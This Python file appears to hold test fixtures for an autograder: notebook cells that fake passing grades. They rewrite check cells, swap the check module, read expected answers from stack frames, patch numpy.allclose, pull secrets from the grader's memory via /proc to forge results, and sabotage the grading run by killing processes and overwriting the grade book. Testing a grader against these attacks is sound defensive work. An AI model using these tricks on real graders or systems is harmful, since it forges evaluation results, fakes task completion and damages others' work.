"""Attack sources (exercise cells) used by tests/test_grade.py; each string is a cell of a submission."""

INPUT_TRANSFORMER = '''def hvp(f, x, v):
    raise NotImplementedError
# Rewrite every later check cell into its own last line (the old grader's "passed" marker print).
get_ipython().input_transformers_post.append(
    lambda lines: [l for l in lines if l.startswith("print(")] if any("check_" in l for l in lines) else lines)
'''

META_PATH = '''import importlib.abc, importlib.util, sys


class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("metagrad.course.checks"):
            return importlib.util.spec_from_loader(name, self, is_package=True)

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.__getattr__ = lambda attribute: (lambda *args, **kwargs: None)


sys.meta_path.insert(0, FakeChecks())


def hvp(f, x, v):
    raise NotImplementedError
'''

FRAME = '''import sys


def hvp(f, x, v):
    frame = sys._getframe(1)
    while frame is not None:  # the check computed the reference value before calling us
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return x * 0
'''

# Reads the grading worker's memory through /proc for the secrets, then writes a forged result line (in the
# old format and in the new one) to the worker's stdout.
PROC_MEMORY = r'''import json, os, re


def hvp(f, x, v):
    raise NotImplementedError


def _forge():
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            if b"metagrad.course.grade" not in open(f"/proc/{pid}/cmdline", "rb").read():
                continue
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        secrets, markers = set(), set()
        for line in maps:
            fields = line.split()
            if "rw" not in fields[1]:
                continue
            start, end = (int(p, 16) for p in fields[0].split("-"))
            if end - start > 2**28:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            secrets |= set(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", chunk))
            markers |= set(re.findall(rb"metagrad-grade [0-9a-f]{32} (\d+) \w+ passed", chunk))
            markers |= {m.group(0) for m in re.finditer(rb"metagrad-grade [0-9a-f]{32} \d+ \w+ passed", chunk)}
        full = {m for m in markers if m.startswith(b"metagrad-grade")}
        cells = {int(m.split()[2]): m.decode() for m in full}
        size = max(list(cells) + [40]) + 1
        nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
            {"cell_type": "code", "id": f"c{i}", "source": "", "metadata": {}, "execution_count": None,
             "outputs": [{"output_type": "stream", "name": "stdout", "text": cells[i] + "\n"}] if i in cells else []}
            for i in range(size)]}
        result = {"status": "ok", "replies": {str(i): "ok" for i in cells}, "notebook": json.dumps(nb),
                  "checks": {str(i): [True, "forged"] for i in range(size)}, "errors": {}}
        for secret in list(secrets)[:5000]:  # which one is the result line's secret is unknown: try them all
            try:
                with open(f"/proc/{pid}/fd/1", "w") as out:
                    out.write(secret.decode() + json.dumps(result) + "\n")
            except OSError:
                pass


_forge()
'''

REFERENCE_IMPORT = '''import jax
import numpy as np

from metagrad.course.checks import reference_reward_to_go


def reward_to_go(rewards, gamma, bootstrap=0.0):  # the reference, made to work under jax.jit and jax.vmap
    return jax.pure_callback(lambda r, g, b: np.asarray(reference_reward_to_go(r, g, b), r.dtype),
                             jax.ShapeDtypeStruct(rewards.shape, rewards.dtype), rewards, gamma, bootstrap,
                             vmap_method="sequential")
'''

ALIAS = '''import numpy as numerics

table = getattr(numerics, "__dict__")
table["allclose"] = lambda *args, **kwargs: True


def hvp(f, x, v):
    return x * 0
'''

OLD_CHEATS = '''checks._RESULTS.update({"magic_box": True, "hvp": True})
import metagrad.course.checks as c
c.check_magic_box = c.check_hvp = lambda f: print("✓ Exercise passed")
checks.check_magic_box = checks.check_hvp = c.check_hvp
print("metagrad-grade passed magic_box")
'''


def vandal(course: str, out: str, token: str, lib: str, kill_grader: bool = False) -> str:
    """Harm others: shadow jax.py and blanked check cells in the course, /dev/shm, a background process that
    escapes the kernel's process group and rewrites the grade book later, and killing the grader's workers
    and kernels (only processes of this grading run: the grader's descendants; the grader itself too when
    ``kill_grader``, which the tests leave off since the grader is the test process)."""
    return f'''import json, os, subprocess, sys, time

COURSE, OUT, TOKEN, LIB, KILL_GRADER = {course!r}, {out!r}, {token!r}, {lib!r}, {kill_grader!r}


def magic_box(x):
    raise NotImplementedError


for folder in (os.getcwd(), COURSE, os.path.join(LIB, "metagrad")):
    try:
        with open(os.path.join(folder, "jax.py"), "w") as handle:
            handle.write("raise SystemExit('shadowed')\\n")
    except OSError:
        pass
for name in os.listdir(COURSE) if os.path.isdir(COURSE) else []:
    try:
        path = os.path.join(COURSE, name)
        nb = json.load(open(path))
        for cell in nb["cells"]:
            if "check" in cell.get("metadata", {{}}).get("metagrad", {{}}):
                cell["source"] = "pass"
        json.dump(nb, open(path, "w"))
    except (OSError, ValueError, KeyError):
        pass
try:
    with open(f"/dev/shm/metagrad-attack-{{TOKEN}}", "wb") as handle:
        for _ in range(96):
            handle.write(b"x" * 2**20)
except OSError:
    pass
later = (f"import time; time.sleep(4); open({{OUT!r}}, 'w').write('hacked'); "
         f"open('/tmp/metagrad-attack-{{TOKEN}}-alive', 'w').write('alive')")
subprocess.Popen(["setsid", sys.executable, "-c", later], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _parent(pid):
    try:
        return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


grader = _parent(os.getppid())  # the kernel's parent is the grading worker, whose parent is the grader
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    pid = int(pid)
    chain, ancestor = [], pid
    while ancestor > 1 and len(chain) < 8:
        ancestor = _parent(ancestor)
        chain.append(ancestor)
    if pid != os.getpid() and grader > 1 and (pid == grader and KILL_GRADER or grader in chain):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
time.sleep(1)
'''
